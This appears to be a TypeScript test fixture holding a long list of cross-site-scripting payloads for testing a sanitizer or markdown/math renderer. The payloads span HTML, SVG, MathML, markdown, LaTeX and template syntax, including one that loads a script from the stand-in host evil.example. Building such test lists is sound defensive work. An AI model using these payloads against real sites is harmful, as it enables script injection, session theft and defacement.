import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

const run = 'alert(1)'

/** Ways of bringing a script into a page, each of its own kind. */
export const OWN_PAYLOADS: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror\n=\n${run}>`,
  `<img/src="x"/onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input onfocus=${run} autofocus>`,
  `<select onfocus=${run} autofocus>`,
  `<textarea onfocus=${run} autofocus>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror="${run}"></video>`,
  `<video poster="javascript:${run}" src=x>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="JaVaScRiPt:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<a href="\u0001javascript:${run}">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `[x](javascript:${run})`,
  `[x](<java&#x0a;script:${run}>)`,
  `![x](javascript:${run})`,
  `![x" onerror="${run}](y)`,
  `[x]: javascript:${run}\n\n[x]`,
  `<javascript:${run}>`,
  `<style>@import 'javascript:${run}'</style>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<title><img src=x onerror=${run}></title>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<table><td background="javascript:${run}">x`,
  `<p id=x tabindex=1 onfocus=${run}>`,
  '```"><script>alert(1)</script>\nx\n```',
  `$\\href{javascript:${run}}{x}$`,
  `$\\text{<img src=x onerror=${run}>}$`,
  `$\\htmlStyle{color:red}{x}$`,
  `<code class="math-inline">\\href{javascript:${run}}{x}</code>`,
  `x[^<img src=x onerror=${run}>]\n\n[^<img src=x onerror=${run}>]: y`,
  `# <img src=x onerror=${run}>`,
  `> [!NOTE]\n> <img src=x onerror=${run}>`,
  `<!-- more --><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?x <script>${run}</script> ?>`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `" autofocus onfocus=${run} x="`,
  `' onmouseover=${run} '`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="data:text/html,<script>opener.${run}</script>"></object>`,
  `<form action="javascript:${run}"><input name=x autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<style onload=${run}></style>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<a href="java\tscript:${run}" autofocus onfocus=${run}>x</a>`,
  `[^a]\n\n[^a]: <img src=x onerror=${run}>`,
  `<%= ${run} %><%- ${run} %>`,
  `{{constructor.constructor('${run}')()}}`,
]

/**
 * What must never run: the project's own list, or with LONG=1 the public one of `CORPORA` (a folder,
 * by default ../shared/corpora), which is no part of the project.
 */
export function listPayloads(): readonly string[] {
  if (process.env['LONG'] !== '1') return OWN_PAYLOADS
  const path = join(process.env['CORPORA'] ?? '../shared/corpora', 'xss.json')
  if (!existsSync(path)) {
    process.stdout.write(`${path} is absent: only the project's own payloads are fired.\n`)
    return OWN_PAYLOADS
  }
  const public_ = JSON.parse(readFileSync(path, 'utf8')) as { payload: string }[]
  return [...OWN_PAYLOADS, ...public_.map(({ payload }) => payload)]
}
